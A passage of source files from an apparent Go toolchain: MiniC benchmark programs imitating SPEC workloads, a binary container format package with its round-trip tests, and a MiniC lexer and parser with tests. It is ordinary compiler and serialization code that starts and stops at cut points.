int rle_decode(char *src, int n, char *dst) {
    int i = 0;
    int o = 0;
    while (i < n) {
        int run = src[i];
        char c = src[i + 1];
        int k;
        for (k = 0; k < run; k++) { dst[o] = c; o++; }
        i += 2;
    }
    return o;
}

// Move-to-front transform over the RLE stream.
void mtf_encode(char *src, int n, char *dst) {
    int i;
    for (i = 0; i < 128; i++) table[i] = i;
    for (i = 0; i < n; i++) {
        int c = src[i];
        int j = 0;
        while (table[j] != c) j++;
        dst[i] = j;
        while (j > 0) {
            table[j] = table[j - 1];
            j--;
        }
        table[0] = c;
    }
}

void mtf_decode(char *src, int n, char *dst) {
    int i;
    for (i = 0; i < 128; i++) table[i] = i;
    for (i = 0; i < n; i++) {
        int j = src[i];
        int c = table[j];
        dst[i] = c;
        while (j > 0) {
            table[j] = table[j - 1];
            j--;
        }
        table[0] = c;
    }
}

int main() {
    int n = gen_input();
    int rn = rle_encode(input, n, rle);
    mtf_encode(rle, rn, mtf);

    // Entropy proxy: count zero symbols after MTF (high = compressible).
    int zeros = 0;
    int i;
    for (i = 0; i < rn; i++) if (mtf[i] == 0) zeros++;

    mtf_decode(mtf, rn, decoded);
    int dn = rle_decode(decoded, rn, restored);

    int ok = dn == n;
    for (i = 0; i < n; i++) if (restored[i] != input[i]) ok = 0;

    print_int(rn);
    print_char(' ');
    print_int(zeros);
    print_char(' ');
    if (ok) print_str("roundtrip-ok\n");
    else print_str("CORRUPT\n");
    return !ok;
}
`

// srcMcfSim: Bellman-Ford single-source shortest paths with negative-safe
// relaxation over a synthetic layered network (the network-simplex flavour
// of 429.mcf).
const srcMcfSim = `
int head[40];
int nextEdge[400];
int dest[400];
int cost[400];
int dist[40];
int nedges = 0;

void add_edge(int u, int v, int c) {
    dest[nedges] = v;
    cost[nedges] = c;
    nextEdge[nedges] = head[u];
    head[u] = nedges;
    nedges++;
}

int main() {
    int i;
    int u;
    for (i = 0; i < 40; i++) head[i] = 0 - 1;
    // Synthetic layered network: 8 layers of 5 nodes.
    int x = 777;
    int layer;
    for (layer = 0; layer < 7; layer++) {
        int a;
        int b;
        for (a = 0; a < 5; a++) {
            for (b = 0; b < 5; b++) {
                x = (x * 75 + 74) % 65537;
                add_edge(layer * 5 + a, (layer + 1) * 5 + b, x % 100 + 1);
            }
        }
    }
    for (i = 0; i < 40; i++) dist[i] = 1000000000;
    dist[0] = 0;
    // Bellman-Ford.
    int round;
    for (round = 0; round < 40; round++) {
        int changed = 0;
        for (u = 0; u < 40; u++) {
            if (dist[u] == 1000000000) continue;
            int e = head[u];
            while (e >= 0) {
                int nd = dist[u] + cost[e];
                if (nd < dist[dest[e]]) {
                    dist[dest[e]] = nd;
                    changed = 1;
                }
                e = nextEdge[e];
            }
        }
        if (!changed) break;
    }
    int best = 1000000000;
    for (i = 35; i < 40; i++) if (dist[i] < best) best = dist[i];
    print_int(best);
    print_char(' ');
    int sum = 0;
    for (i = 0; i < 40; i++) if (dist[i] < 1000000000) sum += dist[i];
    print_int(sum);
    print_char('\n');
    return 0;
}
`

// srcGobmkSim: 9x9 Go board analysis: flood-fill group liberties, capture
// detection, and a greedy move evaluation (the board-reasoning flavour of
// 445.gobmk).
const srcGobmkSim = `
char board[49];
char seen[49];

int liberties(int pos, int color) {
    // Iterative flood fill with an explicit stack.
    int stack[49];
    int sp = 0;
    int libs = 0;
    int i;
    for (i = 0; i < 49; i++) seen[i] = 0;
    stack[sp] = pos;
    sp++;
    seen[pos] = 1;
    while (sp > 0) {
        sp--;
        int p = stack[sp];
        int r = p / 7;
        int c = p % 7;
        int d;
        for (d = 0; d < 4; d++) {
            int nr = r;
            int nc = c;
            if (d == 0) nr = r - 1;
            if (d == 1) nr = r + 1;
            if (d == 2) nc = c - 1;
            if (d == 3) nc = c + 1;
            if (nr < 0 || nr >= 7 || nc < 0 || nc >= 7) continue;
            int np = nr * 7 + nc;
            if (seen[np]) continue;
            if (board[np] == 0) {
                seen[np] = 1;
                libs++;
            } else if (board[np] == color) {
                seen[np] = 1;
                stack[sp] = np;
                sp++;
            }
        }
    }
    return libs;
}

int main() {
    int i;
    int x = 31337;
    // Random position: ~half the points occupied.
    for (i = 0; i < 49; i++) {
        x = (x * 1103515245 + 12345) % 2147483648;
        int v = x % 10;
        if (v < 3) board[i] = 1;
        else if (v < 6) board[i] = 2;
        else board[i] = 0;
    }
    int atari = 0;
    int captured = 0;
    int total = 0;
    for (i = 0; i < 49; i++) {
        if (board[i] == 0) continue;
        int l = liberties(i, board[i]);
        total += l;
        if (l == 1) atari++;
        if (l == 0) captured++;
    }
    // Greedy move evaluation: best empty point by resulting liberties.
    int best = 0 - 1;
    int bestScore = 0 - 1;
    for (i = 0; i < 49; i += 2) {
        if (board[i]) continue;
        board[i] = 1;
        int s = liberties(i, 1);
        board[i] = 0;
        if (s > bestScore) { bestScore = s; best = i; }
    }
    print_int(total);
    print_char(' ');
    print_int(atari);
    print_char(' ');
    print_int(captured);
    print_char(' ');
    print_int(best);
    print_char(' ');
    print_int(bestScore);
    print_char('\n');
    return 0;
}
`

// srcHmmerSim: Viterbi dynamic programming of observation sequences against
// a 3-state profile with transition/emission scores (the profile-HMM
// flavour of 456.hmmer).
const srcHmmerSim = `
int trans[9];
int emit[12];
int dp[120];

int max2(int a, int b) { if (a > b) return a; return b; }

int score_sequence(char *seq, int n) {
    int s;
    int t;
    // dp[t*3+s]: best score ending in state s at step t.
    for (s = 0; s < 3; s++) dp[s] = emit[s * 4 + seq[0]];
    for (t = 1; t < n; t++) {
        for (s = 0; s < 3; s++) {
            int best = 0 - 1000000000;
            int prev;
            for (prev = 0; prev < 3; prev++) {
                int cand = dp[(t - 1) * 3 + prev] + trans[prev * 3 + s];
                best = max2(best, cand);
            }
            dp[t * 3 + s] = best + emit[s * 4 + seq[t]];
        }
    }
    int best = 0 - 1000000000;
    for (s = 0; s < 3; s++) best = max2(best, dp[(n - 1) * 3 + s]);
    return best;
}

char seqbuf[40];

int main() {
    int i;
    // Deterministic model parameters.
    for (i = 0; i < 9; i++) trans[i] = (i * 13 % 7) - 3;
    for (i = 0; i < 12; i++) emit[i] = (i * 17 % 11) - 5;

    int x = 999;
    int total = 0;
    int best = 0 - 1000000000;
    int round;
    for (round = 0; round < 6; round++) {
        int n = 12 + round % 8;
        for (i = 0; i < n; i++) {
            x = (x * 75 + 74) % 65537;
            seqbuf[i] = x % 4;
        }
        int sc = score_sequence(seqbuf, n);
        total += sc;
        best = max2(best, sc);
    }
    print_int(total);
    print_char(' ');
    print_int(best);
    print_char('\n');
    return 0;
}
`
