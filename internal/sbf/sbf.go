// Package sbf defines the Simple Binary Format, the executable container
// produced by the MiniC toolchain and consumed by the gadget tooling and the
// emulator. It plays the role ELF plays in the original study: sections with
// permissions, a symbol table, and an entry point.
package sbf

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sort"
)

// Magic identifies an SBF image. Version 1 images are always x86-64;
// version 2 adds an ISA tag after the magic. Marshal emits version 1 for
// x86-64 binaries so pre-multi-ISA images and their content hashes are
// byte-identical.
var Magic = [4]byte{'S', 'B', 'F', '1'}

// Magic2 identifies an SBF image carrying an explicit ISA tag.
var Magic2 = [4]byte{'S', 'B', 'F', '2'}

// SectionFlags describe section permissions.
type SectionFlags uint8

// Section permission bits.
const (
	FlagRead  SectionFlags = 1 << iota // readable
	FlagWrite                          // writable
	FlagExec                           // executable
)

// String renders the flags as an "rwx" triple.
func (f SectionFlags) String() string {
	b := []byte("---")
	if f&FlagRead != 0 {
		b[0] = 'r'
	}
	if f&FlagWrite != 0 {
		b[1] = 'w'
	}
	if f&FlagExec != 0 {
		b[2] = 'x'
	}
	return string(b)
}

// Section is a named, mapped region of the binary.
type Section struct {
	Name  string
	Addr  uint64
	Flags SectionFlags
	Data  []byte
}

// End returns the address one past the section's last byte.
func (s *Section) End() uint64 { return s.Addr + uint64(len(s.Data)) }

// Contains reports whether addr falls inside the section.
func (s *Section) Contains(addr uint64) bool { return addr >= s.Addr && addr < s.End() }

// Binary is a loaded or under-construction SBF image.
type Binary struct {
	Entry    uint64
	Sections []Section
	Symbols  map[string]uint64
	// ISA names the instruction set the executable sections hold ("x64",
	// "rv64"). Empty means x86-64: images that predate multi-ISA support
	// carry no tag and are read back with ISA == "".
	ISA string
}

// New returns an empty binary.
func New() *Binary {
	return &Binary{Symbols: make(map[string]uint64)}
}

// AddSection appends a section, keeping sections sorted by address.
func (b *Binary) AddSection(s Section) {
	b.Sections = append(b.Sections, s)
	sort.Slice(b.Sections, func(i, j int) bool { return b.Sections[i].Addr < b.Sections[j].Addr })
}

// Section returns the named section, or nil.
func (b *Binary) Section(name string) *Section {
	for i := range b.Sections {
		if b.Sections[i].Name == name {
			return &b.Sections[i]
		}
	}
	return nil
}

// SectionAt returns the section containing addr, or nil.
func (b *Binary) SectionAt(addr uint64) *Section {
	for i := range b.Sections {
		if b.Sections[i].Contains(addr) {
			return &b.Sections[i]
		}
	}
	return nil
}

// ExecSections returns the executable sections in address order.
func (b *Binary) ExecSections() []*Section {
	var out []*Section
	for i := range b.Sections {
		if b.Sections[i].Flags&FlagExec != 0 {
			out = append(out, &b.Sections[i])
		}
	}
	return out
}

// CodeSize returns the total executable byte count.
func (b *Binary) CodeSize() int {
	n := 0
	for _, s := range b.ExecSections() {
		n += len(s.Data)
	}
	return n
}

// Symbol resolves a symbol name to its address.
func (b *Binary) Symbol(name string) (uint64, bool) {
	v, ok := b.Symbols[name]
	return v, ok
}

// errCorrupt wraps deserialization failures.
var errCorrupt = errors.New("sbf: corrupt image")

// Marshal serializes the binary.
func (b *Binary) Marshal() []byte {
	var out []byte
	if b.ISA == "" || b.ISA == "x64" {
		out = append(out, Magic[:]...)
	} else {
		out = append(out, Magic2[:]...)
		out = appendString(out, b.ISA)
	}
	out = binary.LittleEndian.AppendUint64(out, b.Entry)
	out = binary.LittleEndian.AppendUint32(out, uint32(len(b.Sections)))
	for _, s := range b.Sections {
		out = appendString(out, s.Name)
		out = binary.LittleEndian.AppendUint64(out, s.Addr)
		out = append(out, byte(s.Flags))
		out = binary.LittleEndian.AppendUint32(out, uint32(len(s.Data)))
		out = append(out, s.Data...)
	}
	names := make([]string, 0, len(b.Symbols))
	for n := range b.Symbols {
		names = append(names, n)
	}
	sort.Strings(names)
	out = binary.LittleEndian.AppendUint32(out, uint32(len(names)))
	for _, n := range names {
		out = appendString(out, n)
		out = binary.LittleEndian.AppendUint64(out, b.Symbols[n])
	}
	return out
}

// Unmarshal parses a serialized binary image.
func Unmarshal(data []byte) (*Binary, error) {
	r := reader{data: data}
	var magic [4]byte
	if err := r.bytes(magic[:]); err != nil {
		return nil, err
	}
	if magic != Magic && magic != Magic2 {
		return nil, fmt.Errorf("%w: bad magic %q", errCorrupt, magic)
	}
	b := New()
	var err error
	if magic == Magic2 {
		if b.ISA, err = r.str(); err != nil {
			return nil, err
		}
	}
	if b.Entry, err = r.u64(); err != nil {
		return nil, err
	}
	nSec, err := r.u32()
	if err != nil {
		return nil, err
	}
	if nSec > 1<<16 {
		return nil, fmt.Errorf("%w: unreasonable section count %d", errCorrupt, nSec)
	}
	for i := uint32(0); i < nSec; i++ {
		var s Section
		if s.Name, err = r.str(); err != nil {
			return nil, err
		}
		if s.Addr, err = r.u64(); err != nil {
			return nil, err
		}
		fl, err := r.u8()
		if err != nil {
			return nil, err
		}
		s.Flags = SectionFlags(fl)
		n, err := r.u32()
		if err != nil {
			return nil, err
		}
		if int(n) > len(r.data)-r.pos {
			return nil, fmt.Errorf("%w: section %q overruns image", errCorrupt, s.Name)
		}
		s.Data = make([]byte, n)
		if err := r.bytes(s.Data); err != nil {
			return nil, err
		}
		b.AddSection(s)
	}
	nSym, err := r.u32()
	if err != nil {
		return nil, err
	}
	if nSym > 1<<20 {
		return nil, fmt.Errorf("%w: unreasonable symbol count %d", errCorrupt, nSym)
	}
	for i := uint32(0); i < nSym; i++ {
		name, err := r.str()
		if err != nil {
			return nil, err
		}
		v, err := r.u64()
		if err != nil {
			return nil, err
		}
		b.Symbols[name] = v
	}
	return b, nil
}

func appendString(out []byte, s string) []byte {
	out = binary.LittleEndian.AppendUint32(out, uint32(len(s)))
	return append(out, s...)
}

type reader struct {
	data []byte
	pos  int
}

func (r *reader) bytes(dst []byte) error {
	if r.pos+len(dst) > len(r.data) {
		return fmt.Errorf("%w: truncated", errCorrupt)
	}
	copy(dst, r.data[r.pos:])
	r.pos += len(dst)
	return nil
}

func (r *reader) u8() (byte, error) {
	var b [1]byte
	err := r.bytes(b[:])
	return b[0], err
}

func (r *reader) u32() (uint32, error) {
	var b [4]byte
	if err := r.bytes(b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint32(b[:]), nil
}

func (r *reader) u64() (uint64, error) {
	var b [8]byte
	if err := r.bytes(b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint64(b[:]), nil
}

func (r *reader) str() (string, error) {
	n, err := r.u32()
	if err != nil {
		return "", err
	}
	if int(n) > len(r.data)-r.pos {
		return "", fmt.Errorf("%w: truncated string", errCorrupt)
	}
	s := string(r.data[r.pos : r.pos+int(n)])
	r.pos += int(n)
	return s, nil
}
