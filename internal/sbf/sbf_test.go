package sbf

import (
	"bytes"
	"testing"
	"testing/quick"
)

func sample() *Binary {
	b := New()
	b.Entry = 0x401000
	b.AddSection(Section{Name: ".data", Addr: 0x601000, Flags: FlagRead | FlagWrite, Data: []byte{1, 2, 3}})
	b.AddSection(Section{Name: ".text", Addr: 0x401000, Flags: FlagRead | FlagExec, Data: []byte{0x5F, 0xC3}})
	b.Symbols["main"] = 0x401000
	b.Symbols["buf"] = 0x601000
	return b
}

func TestRoundTrip(t *testing.T) {
	b := sample()
	img := b.Marshal()
	got, err := Unmarshal(img)
	if err != nil {
		t.Fatal(err)
	}
	if got.Entry != b.Entry {
		t.Errorf("entry = %#x", got.Entry)
	}
	if len(got.Sections) != 2 {
		t.Fatalf("sections = %d", len(got.Sections))
	}
	// Sections sorted by address.
	if got.Sections[0].Name != ".text" || got.Sections[1].Name != ".data" {
		t.Errorf("section order: %v %v", got.Sections[0].Name, got.Sections[1].Name)
	}
	if !bytes.Equal(got.Section(".text").Data, []byte{0x5F, 0xC3}) {
		t.Errorf("text data = %x", got.Section(".text").Data)
	}
	if v, ok := got.Symbol("buf"); !ok || v != 0x601000 {
		t.Errorf("buf = %#x, %v", v, ok)
	}
}

func TestSectionQueries(t *testing.T) {
	b := sample()
	if s := b.SectionAt(0x401001); s == nil || s.Name != ".text" {
		t.Errorf("SectionAt(0x401001) = %v", s)
	}
	if s := b.SectionAt(0x401002); s != nil {
		t.Errorf("SectionAt(end) = %v, want nil", s)
	}
	ex := b.ExecSections()
	if len(ex) != 1 || ex[0].Name != ".text" {
		t.Errorf("ExecSections = %v", ex)
	}
	if b.CodeSize() != 2 {
		t.Errorf("CodeSize = %d", b.CodeSize())
	}
	if b.Section(".bss") != nil {
		t.Error("Section(.bss) should be nil")
	}
}

func TestFlagsString(t *testing.T) {
	if got := (FlagRead | FlagExec).String(); got != "r-x" {
		t.Errorf("flags = %q", got)
	}
	if got := SectionFlags(0).String(); got != "---" {
		t.Errorf("flags = %q", got)
	}
}

func TestUnmarshalCorrupt(t *testing.T) {
	img := sample().Marshal()
	// Any truncation must error, never panic.
	for n := 0; n < len(img); n += 3 {
		if _, err := Unmarshal(img[:n]); err == nil {
			t.Fatalf("Unmarshal of %d-byte prefix succeeded", n)
		}
	}
	bad := append([]byte{}, img...)
	bad[0] = 'X'
	if _, err := Unmarshal(bad); err == nil {
		t.Error("bad magic accepted")
	}
}

func TestQuickRoundTripSymbols(t *testing.T) {
	f := func(names []string, vals []uint64) bool {
		b := New()
		for i, n := range names {
			if i < len(vals) {
				b.Symbols[n] = vals[i]
			}
		}
		got, err := Unmarshal(b.Marshal())
		if err != nil {
			return false
		}
		if len(got.Symbols) != len(b.Symbols) {
			return false
		}
		for n, v := range b.Symbols {
			if got.Symbols[n] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
