// Package minic implements the front-end (lexer, parser, AST) for MiniC,
// the C subset the benchmark corpus is written in. It plays the role of the
// C language in the original study: programs the obfuscators transform and
// the code generator compiles to x86-64.
//
// The subset: 64-bit int, 8-bit char, pointers, fixed-size arrays, global
// and local variables, functions, if/else, while, for, break/continue,
// return, the usual expression operators, and a tiny builtin runtime
// (print_int, print_char, print_str, exit).
package minic

import "fmt"

// TokKind enumerates token kinds.
type TokKind uint8

// Token kinds.
const (
	TokEOF TokKind = iota
	TokIdent
	TokInt
	TokChar
	TokString
	TokPunct
	TokKeyword
)

// Token is one lexed token.
type Token struct {
	Kind TokKind
	Str  string // identifier, punctuation or keyword text; string literal value
	Int  int64  // integer or char literal value
	Line int
}

func (t Token) String() string {
	switch t.Kind {
	case TokEOF:
		return "EOF"
	case TokInt, TokChar:
		return fmt.Sprintf("%d", t.Int)
	case TokString:
		return fmt.Sprintf("%q", t.Str)
	default:
		return t.Str
	}
}

var _keywords = map[string]bool{
	"int": true, "char": true, "void": true, "if": true, "else": true,
	"while": true, "for": true, "return": true, "break": true,
	"continue": true, "sizeof": true,
}

// SyntaxError is a lexing or parsing failure.
type SyntaxError struct {
	Line int
	Msg  string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("minic: line %d: %s", e.Line, e.Msg)
}

// Lex tokenizes MiniC source.
func Lex(src string) ([]Token, error) {
	var toks []Token
	line := 1
	i := 0
	for i < len(src) {
		c := src[i]
		switch {
		case c == '\n':
			line++
			i++
		case c == ' ' || c == '\t' || c == '\r':
			i++
		case c == '/' && i+1 < len(src) && src[i+1] == '/':
			for i < len(src) && src[i] != '\n' {
				i++
			}
		case c == '/' && i+1 < len(src) && src[i+1] == '*':
			i += 2
			for i+1 < len(src) && !(src[i] == '*' && src[i+1] == '/') {
				if src[i] == '\n' {
					line++
				}
				i++
			}
			if i+1 >= len(src) {
				return nil, &SyntaxError{Line: line, Msg: "unterminated comment"}
			}
			i += 2
		case isDigit(c):
			start := i
			base := int64(10)
			if c == '0' && i+1 < len(src) && (src[i+1] == 'x' || src[i+1] == 'X') {
				base = 16
				i += 2
				start = i
			}
			var v int64
			for i < len(src) && isHexDigit(src[i]) {
				d := hexVal(src[i])
				if base == 10 && d > 9 {
					break
				}
				v = v*base + int64(d)
				i++
			}
			_ = start
			toks = append(toks, Token{Kind: TokInt, Int: v, Line: line})
		case isAlpha(c):
			start := i
			for i < len(src) && (isAlpha(src[i]) || isDigit(src[i])) {
				i++
			}
			word := src[start:i]
			kind := TokIdent
			if _keywords[word] {
				kind = TokKeyword
			}
			toks = append(toks, Token{Kind: kind, Str: word, Line: line})
		case c == '\'':
			v, n, err := unescapeChar(src[i+1:], line)
			if err != nil {
				return nil, err
			}
			i += 1 + n
			if i >= len(src) || src[i] != '\'' {
				return nil, &SyntaxError{Line: line, Msg: "unterminated char literal"}
			}
			i++
			toks = append(toks, Token{Kind: TokChar, Int: int64(v), Line: line})
		case c == '"':
			i++
			var val []byte
			for i < len(src) && src[i] != '"' {
				if src[i] == '\\' {
					v, n, err := unescapeChar(src[i:], line)
					if err != nil {
						return nil, err
					}
					val = append(val, v)
					i += n
					continue
				}
				if src[i] == '\n' {
					return nil, &SyntaxError{Line: line, Msg: "newline in string literal"}
				}
				val = append(val, src[i])
				i++
			}
			if i >= len(src) {
				return nil, &SyntaxError{Line: line, Msg: "unterminated string literal"}
			}
			i++
			toks = append(toks, Token{Kind: TokString, Str: string(val), Line: line})
		default:
			// Multi-character punctuation first.
			two := ""
			if i+1 < len(src) {
				two = src[i : i+2]
			}
			switch two {
			case "==", "!=", "<=", ">=", "&&", "||", "<<", ">>", "+=", "-=", "*=", "/=", "%=", "++", "--":
				toks = append(toks, Token{Kind: TokPunct, Str: two, Line: line})
				i += 2
				continue
			}
			switch c {
			case '+', '-', '*', '/', '%', '&', '|', '^', '~', '!', '<', '>', '=',
				'(', ')', '{', '}', '[', ']', ';', ',':
				toks = append(toks, Token{Kind: TokPunct, Str: string(c), Line: line})
				i++
			default:
				return nil, &SyntaxError{Line: line, Msg: fmt.Sprintf("unexpected character %q", c)}
			}
		}
	}
	toks = append(toks, Token{Kind: TokEOF, Line: line})
	return toks, nil
}

// unescapeChar parses one (possibly escaped) character, returning its value
// and the number of source bytes consumed.
func unescapeChar(s string, line int) (byte, int, error) {
	if len(s) == 0 {
		return 0, 0, &SyntaxError{Line: line, Msg: "unterminated literal"}
	}
	if s[0] != '\\' {
		return s[0], 1, nil
	}
	if len(s) < 2 {
		return 0, 0, &SyntaxError{Line: line, Msg: "unterminated escape"}
	}
	switch s[1] {
	case 'n':
		return '\n', 2, nil
	case 't':
		return '\t', 2, nil
	case 'r':
		return '\r', 2, nil
	case '0':
		return 0, 2, nil
	case '\\':
		return '\\', 2, nil
	case '\'':
		return '\'', 2, nil
	case '"':
		return '"', 2, nil
	}
	return 0, 0, &SyntaxError{Line: line, Msg: fmt.Sprintf("unknown escape \\%c", s[1])}
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }
func isAlpha(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '_'
}
func isHexDigit(c byte) bool {
	return isDigit(c) || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}
func hexVal(c byte) int {
	switch {
	case c <= '9':
		return int(c - '0')
	case c >= 'a':
		return int(c-'a') + 10
	default:
		return int(c-'A') + 10
	}
}
