package minic

import (
	"strings"
	"testing"
)

func TestLexBasics(t *testing.T) {
	toks, err := Lex(`int x = 0x1F + 'a'; // comment
char *s = "hi\n"; /* block
comment */ if (x >= 2) { }`)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, tk := range toks {
		kinds = append(kinds, tk.String())
	}
	joined := strings.Join(kinds, " ")
	for _, want := range []string{"int", "x", "=", "31", "+", "97", `"hi\n"`, ">=", "EOF"} {
		if !strings.Contains(joined, want) {
			t.Errorf("missing token %q in %q", want, joined)
		}
	}
}

func TestLexLineNumbers(t *testing.T) {
	toks, err := Lex("a\nb\n\nc")
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Line != 1 || toks[1].Line != 2 || toks[2].Line != 4 {
		t.Errorf("lines = %d %d %d", toks[0].Line, toks[1].Line, toks[2].Line)
	}
}

func TestLexErrors(t *testing.T) {
	for _, src := range []string{"`", `"unterminated`, "'x", "/* unterminated"} {
		if _, err := Lex(src); err == nil {
			t.Errorf("Lex(%q) succeeded", src)
		}
	}
}

func TestParseProgramShape(t *testing.T) {
	src := `
int g = 5;
int arr[3] = {1, 2, 3};
char msg[] = "hello";
int add(int a, int b) { return a + b; }
void run() {
    int i;
    for (i = 0; i < 10; i++) {
        if (i % 2 == 0) continue;
        if (i > 7) break;
    }
    while (i) i--;
}
int main() { run(); return add(1, 2); }
`
	prog, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(prog.Globals) != 3 {
		t.Errorf("globals = %d", len(prog.Globals))
	}
	if len(prog.Funcs) != 3 {
		t.Errorf("funcs = %d", len(prog.Funcs))
	}
	if prog.Globals[1].Type.Len != 3 {
		t.Errorf("arr len = %d", prog.Globals[1].Type.Len)
	}
	if prog.Globals[2].Type.Len != 6 { // "hello" + NUL
		t.Errorf("msg len = %d", prog.Globals[2].Type.Len)
	}
	if len(prog.Funcs[0].Params) != 2 {
		t.Errorf("add params = %d", len(prog.Funcs[0].Params))
	}
}

func TestParsePrecedence(t *testing.T) {
	prog, err := Parse("int main() { return 1 + 2 * 3; }")
	if err != nil {
		t.Fatal(err)
	}
	ret := prog.Funcs[0].Body.Stmts[0].(*ReturnStmt)
	bin := ret.Val.(*BinExpr)
	if bin.Op != "+" {
		t.Fatalf("top op = %q", bin.Op)
	}
	if inner, ok := bin.Y.(*BinExpr); !ok || inner.Op != "*" {
		t.Errorf("rhs = %#v", bin.Y)
	}
}

func TestParseCompoundAssign(t *testing.T) {
	prog, err := Parse("int main() { int x = 1; x += 2; x++; return x; }")
	if err != nil {
		t.Fatal(err)
	}
	body := prog.Funcs[0].Body.Stmts
	if _, ok := body[1].(*AssignStmt); !ok {
		t.Errorf("x += 2 lowered to %T", body[1])
	}
	if _, ok := body[2].(*AssignStmt); !ok {
		t.Errorf("x++ lowered to %T", body[2])
	}
}

func TestParseErrors(t *testing.T) {
	cases := []string{
		"int main( { }",
		"int main() { if x { } }",
		"int main() { return 1 }",
		"int a[];",
		"float main() {}",
		"int main() { x ==; }",
	}
	for _, src := range cases {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) succeeded", src)
		}
	}
}

func TestTypeSizes(t *testing.T) {
	if IntType.Size() != 8 || CharType.Size() != 1 {
		t.Error("scalar sizes wrong")
	}
	if PtrTo(CharType).Size() != 8 {
		t.Error("pointer size wrong")
	}
	if ArrayOf(IntType, 10).Size() != 80 {
		t.Error("array size wrong")
	}
	if !PtrTo(IntType).IsScalar() || ArrayOf(IntType, 2).IsScalar() {
		t.Error("IsScalar wrong")
	}
	if PtrTo(CharType).String() != "char*" {
		t.Errorf("type string = %q", PtrTo(CharType))
	}
}

func TestSizeofParses(t *testing.T) {
	prog, err := Parse("int main() { return sizeof(int*); }")
	if err != nil {
		t.Fatal(err)
	}
	ret := prog.Funcs[0].Body.Stmts[0].(*ReturnStmt)
	if lit, ok := ret.Val.(*IntLit); !ok || lit.Val != 8 {
		t.Errorf("sizeof = %#v", ret.Val)
	}
}
