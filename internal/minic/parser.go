package minic

import "fmt"

// Parse lexes and parses a MiniC translation unit.
func Parse(src string) (*Program, error) {
	toks, err := Lex(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	return p.parseProgram()
}

type parser struct {
	toks []Token
	pos  int
}

func (p *parser) peek() Token { return p.toks[p.pos] }

// next consumes and returns the current token; the trailing EOF token is
// sticky so error paths can keep reporting it without running off the end.
func (p *parser) next() Token {
	t := p.toks[p.pos]
	if t.Kind != TokEOF {
		p.pos++
	}
	return t
}
func (p *parser) line() int { return p.peek().Line }

func (p *parser) errf(format string, args ...any) error {
	return &SyntaxError{Line: p.line(), Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) isPunct(s string) bool {
	t := p.peek()
	return t.Kind == TokPunct && t.Str == s
}

func (p *parser) isKeyword(s string) bool {
	t := p.peek()
	return t.Kind == TokKeyword && t.Str == s
}

func (p *parser) accept(s string) bool {
	if p.isPunct(s) || p.isKeyword(s) {
		p.pos++
		return true
	}
	return false
}

func (p *parser) expect(s string) error {
	if p.accept(s) {
		return nil
	}
	return p.errf("expected %q, found %q", s, p.peek())
}

func (p *parser) parseProgram() (*Program, error) {
	prog := &Program{}
	for p.peek().Kind != TokEOF {
		base, err := p.parseBaseType()
		if err != nil {
			return nil, err
		}
		typ, name, err := p.parseDeclarator(base)
		if err != nil {
			return nil, err
		}
		if p.isPunct("(") {
			fn, err := p.parseFuncRest(typ, name)
			if err != nil {
				return nil, err
			}
			prog.Funcs = append(prog.Funcs, fn)
			continue
		}
		g, err := p.parseGlobalRest(typ, name)
		if err != nil {
			return nil, err
		}
		prog.Globals = append(prog.Globals, g)
	}
	return prog, nil
}

// parseBaseType parses int/char/void.
func (p *parser) parseBaseType() (*Type, error) {
	switch {
	case p.accept("int"):
		return IntType, nil
	case p.accept("char"):
		return CharType, nil
	case p.accept("void"):
		return VoidType, nil
	}
	return nil, p.errf("expected type, found %q", p.peek())
}

// parseDeclarator parses pointer stars, the name, and array suffixes.
func (p *parser) parseDeclarator(base *Type) (*Type, string, error) {
	typ := base
	for p.accept("*") {
		typ = PtrTo(typ)
	}
	t := p.next()
	if t.Kind != TokIdent {
		return nil, "", p.errf("expected identifier, found %q", t)
	}
	name := t.Str
	// Array suffixes ([N] or [] for string-initialized globals).
	for p.accept("[") {
		if p.accept("]") {
			typ = ArrayOf(typ, -1) // length from initializer
			continue
		}
		sz := p.next()
		if sz.Kind != TokInt {
			return nil, "", p.errf("expected array length")
		}
		if err := p.expect("]"); err != nil {
			return nil, "", err
		}
		typ = ArrayOf(typ, int(sz.Int))
	}
	return typ, name, nil
}

func (p *parser) parseGlobalRest(typ *Type, name string) (*Global, error) {
	g := &Global{Name: name, Type: typ, Line: p.line()}
	if p.accept("=") {
		switch {
		case p.isPunct("{"):
			p.next()
			for !p.isPunct("}") {
				e, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				g.ArrayInit = append(g.ArrayInit, e)
				if !p.accept(",") {
					break
				}
			}
			if err := p.expect("}"); err != nil {
				return nil, err
			}
			if typ.Kind == TypeArray && typ.Len == -1 {
				typ.Len = len(g.ArrayInit)
			}
		case p.peek().Kind == TokString:
			t := p.next()
			g.StrInit, g.HasStr = t.Str, true
			if typ.Kind == TypeArray && typ.Len == -1 {
				typ.Len = len(t.Str) + 1
			}
		default:
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			g.Init = e
		}
	}
	if typ.Kind == TypeArray && typ.Len == -1 {
		return nil, p.errf("array %q needs a length or initializer", name)
	}
	return g, p.expect(";")
}

func (p *parser) parseFuncRest(ret *Type, name string) (*FuncDecl, error) {
	fn := &FuncDecl{Name: name, Ret: ret, Line: p.line()}
	if err := p.expect("("); err != nil {
		return nil, err
	}
	if p.accept("void") && p.isPunct(")") {
		// f(void)
	} else {
		for !p.isPunct(")") {
			base, err := p.parseBaseType()
			if err != nil {
				return nil, err
			}
			typ, pname, err := p.parseDeclarator(base)
			if err != nil {
				return nil, err
			}
			if typ.Kind == TypeArray {
				typ = PtrTo(typ.Elem) // arrays decay in parameters
			}
			fn.Params = append(fn.Params, Param{Name: pname, Type: typ})
			if !p.accept(",") {
				break
			}
		}
	}
